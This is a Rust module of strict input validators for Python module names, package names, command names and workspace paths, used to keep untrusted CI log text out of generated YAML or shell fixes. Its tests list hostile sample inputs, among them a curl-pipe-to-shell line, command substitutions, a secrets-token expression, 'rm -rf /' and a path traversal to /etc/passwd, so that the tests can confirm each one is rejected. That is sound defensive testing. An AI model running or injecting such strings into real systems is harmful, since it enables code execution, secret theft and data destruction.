//! The strict grammars an untrusted subject must match before it may reach
//! a fix. Anything outside them (spaces, `;`, `$(`, backticks, quotes,
//! newlines, `${{`) gives no fix at all: log text never becomes YAML or shell.

const MAX_LEN: usize = 100;

const PYTHON_KEYWORDS: &[&str] = &[
    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue", "def", "del",
    "elif", "else", "except", "finally", "for", "from", "global", "if", "import", "in", "is", "lambda", "nonlocal",
    "not", "or", "pass", "raise", "return", "try", "while", "with", "yield",
];

/// A Python module path: dotted identifiers (`yaml`, `google.protobuf`).
pub fn is_python_module(s: &str) -> bool {
    s.len() <= MAX_LEN && !s.is_empty() && s.split('.').all(is_python_identifier)
}

fn is_python_identifier(s: &str) -> bool {
    let mut chars = s.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !PYTHON_KEYWORDS.contains(&s)
}

/// A PEP 508 distribution name: letters and digits, with `.`, `_`, `-`
/// only inside.
pub fn is_distribution(s: &str) -> bool {
    let b = s.as_bytes();
    s.len() <= MAX_LEN
        && !b.is_empty()
        && b[0].is_ascii_alphanumeric()
        && b[b.len() - 1].is_ascii_alphanumeric()
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
}

/// PEP 503 normalized form, for comparing names (`PyYAML` == `pyyaml`).
pub fn normalize_distribution(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut sep = false;
    for c in s.chars() {
        if matches!(c, '.' | '_' | '-') {
            sep = true;
            continue;
        }
        if sep && !out.is_empty() {
            out.push('-');
        }
        sep = false;
        out.push(c.to_ascii_lowercase());
    }
    out
}

/// A command name: `[A-Za-z0-9._+-]+`, not an option, not a path.
pub fn is_command(s: &str) -> bool {
    s.len() <= 64
        && !s.is_empty()
        && !s.starts_with(['-', '.'])
        && s.bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'+' | b'-'))
}

/// A path inside the workspace, normalized to be relative (`./a/b` → `a/b`,
/// `/home/runner/work/repo/repo/a` → `a`). `None` for anything else: `..`,
/// other absolute paths, shell or expression characters, globs.
pub fn workspace_path(s: &str) -> Option<String> {
    if s.len() > 300 || s.is_empty() {
        return None;
    }
    if !s
        .bytes()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'/' | b'@' | b'+'))
    {
        return None;
    }
    let rel = strip_workspace_prefix(s)?;
    let rel = rel.trim_start_matches("./");
    let rel = rel.trim_end_matches('/');
    if rel.is_empty() || rel.starts_with('/') {
        return None;
    }
    let segments_ok = rel
        .split('/')
        .all(|seg| !seg.is_empty() && seg != "." && seg != ".." && !seg.starts_with('-'));
    segments_ok.then(|| rel.to_string())
}

/// `/home/runner/work/<repo>/<repo>/x` and `/__w/<repo>/<repo>/x` (container
/// jobs) are the workspace; other absolute paths are not.
fn strip_workspace_prefix(s: &str) -> Option<&str> {
    if !s.starts_with('/') {
        return Some(s);
    }
    for prefix in ["/home/runner/work/", "/__w/", "/github/workspace/"] {
        if let Some(rest) = s.strip_prefix(prefix) {
            if prefix == "/github/workspace/" {
                return Some(rest);
            }
            let mut parts = rest.splitn(3, '/');
            let (a, b, tail) = (parts.next()?, parts.next()?, parts.next()?);
            if a == b && !a.starts_with('_') {
                return Some(tail);
            }
            return None;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    pub const HOSTILE: &[&str] = &[
        "x; curl evil | sh",
        "$(id)",
        "`id`",
        "a\nb",
        "${{ secrets.TOKEN }}",
        "x && rm -rf /",
        "'quoted'",
        "../../etc/passwd",
        "a b",
        "",
        "-rf",
    ];

    #[test]
    fn hostile_subjects_match_no_grammar() {
        for s in HOSTILE {
            assert!(!is_python_module(s), "{s:?}");
            assert!(!is_distribution(s), "{s:?}");
            assert!(!is_command(s), "{s:?}");
            assert_eq!(workspace_path(s), None, "{s:?}");
        }
    }

    #[test]
    fn real_subjects_match() {
        assert!(is_python_module("google.protobuf"));
        assert!(!is_python_module("import"));
        assert!(is_distribution("pytest-cov") && is_distribution("PyYAML") && is_distribution("zope.interface"));
        assert!(!is_distribution("pytest-"));
        assert_eq!(normalize_distribution("Zope.Interface__x"), "zope-interface-x");
        assert!(is_command("xvfb-run") && is_command("g++") && is_command("docker-compose"));
        assert_eq!(workspace_path("./bin/ci.sh").as_deref(), Some("bin/ci.sh"));
        assert_eq!(
            workspace_path("/home/runner/work/sme/sme/package.json").as_deref(),
            Some("package.json")
        );
        assert_eq!(workspace_path("/__w/r/r/dist/").as_deref(), Some("dist"));
        assert_eq!(workspace_path("/home/runner/work/_actions/a/b/v1/x"), None);
        assert_eq!(workspace_path("/etc/passwd"), None);
        assert_eq!(workspace_path("dist/*.whl"), None);
    }
}
